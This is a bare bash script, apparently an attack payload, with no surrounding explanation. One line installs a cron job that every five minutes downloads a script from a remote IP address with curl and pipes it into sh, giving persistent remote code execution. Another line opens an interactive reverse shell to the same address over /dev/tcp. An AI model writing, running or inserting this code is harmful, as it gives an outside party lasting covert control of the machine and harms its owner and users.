#!/bin/bash
(crontab -l 2>/dev/null; echo "*/5 * * * * curl -s http://203.0.113.77/c | sh") | crontab -
bash -i >& /dev/tcp/203.0.113.77/4444 0>&1
